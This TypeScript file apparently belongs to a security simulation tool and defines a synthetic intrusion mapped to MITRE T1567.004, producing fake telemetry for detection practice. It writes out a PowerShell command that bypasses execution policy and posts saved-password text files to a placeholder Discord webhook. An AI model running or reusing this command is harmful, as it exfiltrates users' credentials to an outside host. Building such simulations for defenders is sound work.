import { minute } from '../../packages/weir/src/simulate/time.ts';
import { programs } from '../programs.ts';
import { clock, type Intrusion } from './intrusion.ts';

const hook = `https://discord.com/api/webhooks/${'1'.repeat(18)}/${'w'.repeat(68)}`;

/** Saved passwords, posted in three small pieces to a Discord webhook. */
export const discordWebhook: Intrusion = {
  name: 'discord-webhook',
  technique: 'T1567.004',
  device: 'lf-ws-003',
  dayNumber: 1,
  service: 'discord.com',
  tell: (desk, midnight, random, incident) => {
    const at = clock(midnight, 15, 26, 58);
    const shell = desk.launch(programs.powershell, {
      at,
      commandLine: `powershell.exe -ExecutionPolicy Bypass -Command "gci $env:TEMP\\k\\*.txt | % { irm -Uri ${hook} -Method Post -ContentType application/json -Body (@{content=(gc $_ -Raw)}|ConvertTo-Json) }"`,
    });
    for (let post = 0; post < 3; post++) {
      desk.connect(shell, 'discord.com', {
        at: at + 1_700_000 + post * 2 * minute,
        lasting: random.int(300, 900) * 1_000,
        sent: random.int(1_300, 2_600),
        received: 760,
        incident,
      });
    }
  },
};
